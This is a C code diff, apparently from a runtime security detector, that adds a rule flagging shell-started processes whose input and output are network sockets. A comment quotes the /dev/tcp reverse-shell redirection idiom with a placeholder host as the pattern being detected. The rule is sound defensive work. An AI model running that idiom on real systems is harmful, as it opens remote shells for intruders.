@@ -240,6 +240,18 @@ static bool has_circle(const struct bh_act_process *p)
 	return p->stdio[0] == BH_STDIO_FIFO || p->stdio[1] == BH_STDIO_FIFO;
 }
 
+/* `exec 0<>/dev/tcp/HOST/PORT >&0`: no shell was started so, but what it starts shows it. Wherever
+ * the other end is: who relays it may be in the pod. */
+static bool is_spoken_to(const struct bh_judge *j)
+{
+	const struct bh_act_process *p = &j->a->process;
+
+	return p->stdio[0] == BH_STDIO_INET && p->stdio[1] == BH_STDIO_INET &&
+	       !(p->flags & BH_PROC_FROM_OUTSIDE) && *j->a->parent.path &&
+	       bh_tool_is_shell(bh_act_tool(&j->a->parent)) &&
+	       !(j->proc && (j->proc->inherited & BH_LINE_IN_SHELL));
+}
+
 bool bh_row_socket_shell(struct bh_judge *j)
 {
 	const struct bh_act_process *p = &j->a->process;
@@ -257,6 +269,14 @@ bool bh_row_socket_shell(struct bh_judge *j)
 	if (bh_act_is_net_shell(j->a)) {
 		bh_judge_key(j, "stdio %s", p->path);
 		bh_judge_say(j, "%s was started with the network as its input and output", p->path);
+		return true;
+	}
+	if (is_spoken_to(j)) {
+		j->severity = BH_SEVERITY_MEDIUM;
+		bh_judge_weigh(j);
+		bh_judge_key(j, "through %s", j->a->parent.path);
+		bh_judge_say(j, "%s, started by a shell, has the network as its input and output",
+			     p->path);
 		return true;
 	}
 	/* a shell that nobody gave a command, started by what had connected: it passes on what
